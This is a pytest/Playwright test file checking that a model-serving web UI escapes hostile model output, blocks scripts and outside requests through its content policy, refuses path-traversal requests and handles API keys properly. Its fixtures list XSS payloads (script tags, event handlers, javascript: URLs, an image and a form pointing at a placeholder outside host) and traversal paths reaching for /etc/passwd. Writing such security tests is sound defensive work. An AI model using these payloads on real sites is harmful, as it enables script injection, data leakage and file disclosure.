"""Nothing that somebody writes runs in the page, nothing leaves for another host, no other file is served."""

from __future__ import annotations

import http.client
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Page, expect

from nanoworks.serve.auth.database import open_database
from nanoworks.serve.auth.store import KeyStore
from nanoworks.serve.settings import ServerSettings
from tests.serve.page.conftest import answers, ask, one_after_another, scripted, send

NewPage = Callable[..., Page]

HOSTILE = [
    "<script>window.ran = 1</script>\n\n",
    "<img src=x onerror='window.ran = 2'>\n\n",
    "<svg onload=window.ran=3><style>*{display:none}</style></svg>\n\n",
    "[link](javascript:window.ran=4) [data](data:text/html,<script>window.ran=5</script>)\n\n",
    "![picture](https://elsewhere.invalid/spy.png?secret)\n\n",
    "<a href='https://elsewhere.invalid' onclick='window.ran=6'>raw</a>\n\n",
    '```html" onmouseover="window.ran=7\n<script>window.ran = 8</script>\n```\n\n',
    "<form action='https://elsewhere.invalid'><input name=key></form>\n\n",
    "| a |\n| --- |\n| <iframe src='javascript:window.ran=9'></iframe> |\n\n",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=10></style>\n\n",
    "\ue0000\ue000 [ok](https://example.org 'x\" onmouseover=\"window.ran=11')",
]


@pytest.fixture(scope="module")
def url(serve: Any) -> Iterator[str]:
    with serve(scripted(one_after_another(HOSTILE))) as url:
        yield url


def test_what_a_model_writes_is_shown_as_text(new_page: NewPage, url: str) -> None:
    page = new_page()
    asked_for: list[str] = []
    page.on("request", lambda request: asked_for.append(request.url))
    page.goto(url)
    ask(page, "<b onclick=window.ran=12>hello</b><script>window.ran=13</script>")
    answer = answers(page).locator(".answer")
    for shown in (
        "<script>window.ran = 1</script>",
        "<img src=x onerror='window.ran = 2'>",
        "<svg onload=window.ran=3>",
        "<iframe src='javascript:window.ran=9'>",
        "<form action='https://elsewhere.invalid'>",
        "<script>window.ran = 8</script>",
    ):
        expect(answer).to_contain_text(shown)
    assert page.locator(".bubble").inner_text().startswith("<b onclick=window.ran=12>")
    assert page.locator("#conversations .title").inner_text().startswith("<b onclick")

    page.locator(".answer *").evaluate_all(
        "elements => elements.forEach(e => ['mouseover', 'click'].forEach(type => e.dispatchEvent(new Event(type))))"
    )
    page.reload()
    expect(answer).to_contain_text("<script>window.ran = 1</script>")
    assert page.evaluate("window.ran") is None
    hostile = "script, img, iframe, form, input, style, svg, math, [onclick], [onerror], [onload], [onmouseover]"
    assert page.locator(".answer").locator(hostile).and_(page.locator(":not(.code figcaption *)")).count() == 0
    links = [link.get_attribute("href") for link in answer.locator("a").all()]
    assert links == [None, None, "https://elsewhere.invalid/spy.png?secret", "https://example.org"]
    assert {link.get_attribute("rel") for link in answer.locator("a").all()} == {"noopener noreferrer"}
    assert [address for address in asked_for if not address.startswith(url)] == []  # no picture, no CDN, nothing


def test_the_browser_itself_would_refuse(new_page: NewPage, url: str) -> None:
    """Were the sanitiser to fail, the page's policy would still run no script and send nothing elsewhere."""
    page = new_page()
    page.goto(url)
    script = """async () => {
        const element = document.createElement("script");
        const refused = [];
        try { element.textContent = "window.ran = 1"; document.body.append(element) } catch { refused.push("script") }
        try { document.body.innerHTML = "<img src=x onerror='window.ran = 2'>" } catch { refused.push("html") }
        await new Promise(done => setTimeout(() => {  // what the test itself evaluates may do it
            try { eval("window.ran = 3") } catch { refused.push("eval") }
            done();
        }));
        await fetch("https://elsewhere.invalid/").catch(() => refused.push("fetch"));
        return refused;
    }"""
    assert page.evaluate(script) == ["script", "html", "eval", "fetch"]
    assert page.evaluate("window.ran") is None


@pytest.mark.parametrize(
    "path",
    [
        "/ui/../app.py",
        "/ui/%2e%2e/app.py",
        "/ui/..%2fapp.py",
        "/ui/..%5capp.py",
        "/ui/js/../../app.py",
        "/ui//etc/passwd",
        "/ui/%2fetc%2fpasswd",
        "/ui/....//....//etc/passwd",
        "/ui/%252e%252e/app.py",
        "/ui/js/%00app.js",
        "/ui/" + "../" * 40 + "etc/passwd",
        "/ui/" + "a" * 5000,
        "/ui/",
        "/ui/js",
    ],
)
def test_no_other_file_is_served(url: str, path: str) -> None:
    connection = http.client.HTTPConnection(urlsplit(url).netloc, timeout=30)  # sends the path as it is
    connection.request("GET", path)
    response = connection.getresponse()
    body = response.read()
    connection.close()
    assert 400 <= response.status < 500
    assert b"root:" not in body
    assert b"create_app" not in body


def test_every_file_of_the_page_is_served_as_what_it_is(url: str) -> None:
    folder = Path(__file__).parents[3] / "src" / "nanoworks" / "serve" / "ui"
    types = {".js": "text/javascript", ".css": "text/css", ".svg": "image/svg+xml", ".html": "text/html"}
    files = [file for file in folder.rglob("*") if file.suffix in types]
    assert len(files) > 15
    for file in files:
        response = httpx.get(f"{url}/ui/{file.relative_to(folder).as_posix()}")
        assert response.status_code == 200
        assert response.content == file.read_bytes()
        assert response.headers["content-type"].startswith(types[file.suffix])
        assert response.headers["x-content-type-options"] == "nosniff"
        assert "default-src 'self'" in response.headers["content-security-policy"]
        again = httpx.get(response.url, headers={"if-none-match": response.headers["etag"]})
        assert again.status_code == 304


def test_a_key_is_asked_for_and_kept_as_long_as_wished(new_page: NewPage, serve: Any, tmp_path: Path) -> None:
    database = open_database(str(tmp_path / "keys.db"))
    store = KeyStore(database)
    secret, fresh = store.create("a visitor"), store.create("a visitor again")
    settings = ServerSettings(auth=True, keys_db=str(tmp_path / "keys.db"))
    with serve(scripted({"<|assistant_start|>": ["hello"]}), settings) as url:
        page = new_page()
        page.goto(url)
        dialog = page.get_by_role("dialog", name="This server asks for a key")
        field = page.get_by_label("API key")
        expect(dialog).to_be_visible()
        assert field.get_attribute("type") == "password"
        field.fill("nw_wrong_key")
        page.get_by_role("button", name="Continue").click()
        expect(dialog.get_by_role("alert")).to_be_visible()  # why it was refused
        field.fill(secret)
        page.get_by_role("button", name="Continue").click()
        expect(dialog).to_be_hidden()
        expect(page.locator("#model")).to_have_value("tiny")
        assert ask(page, "hi").locator(".answer").inner_text() == "hello"
        assert secret not in page.content()

        page.reload()
        expect(page.locator("#model")).to_have_value("tiny")  # the tab knows it still
        other = page.context.new_page()
        other.goto(url)
        expect(other.get_by_role("dialog")).to_be_visible()  # another tab does not
        other.get_by_label("API key").fill(secret)
        other.get_by_label("Remember it in this browser").check()
        other.get_by_role("button", name="Continue").click()
        expect(other.locator("#model")).to_have_value("tiny")
        third = page.context.new_page()
        third.goto(url)
        expect(third.locator("#model")).to_have_value("tiny")

        # While the answer waits for a new key it is not lost.
        store.revoke(next(key.id for key in store.all_keys() if key.name == "a visitor"))
        third.wait_for_timeout(2500)  # the server reads the keys anew every two seconds
        send(third, "still there?")
        expect(third.get_by_role("dialog")).to_contain_text("revoked")
        third.get_by_label("API key").fill(fresh)
        third.get_by_role("button", name="Continue").click()
        expect(answers(third).last.locator(".answer")).to_have_text("hello")

        third.get_by_role("button", name="Settings").click()
        third.get_by_role("button", name="Forget the API key").click()
        expect(third.get_by_role("dialog")).to_be_visible()
        assert third.evaluate("[...Object.values(localStorage), ...Object.values(sessionStorage)].join()") == ""
    database.dispose()
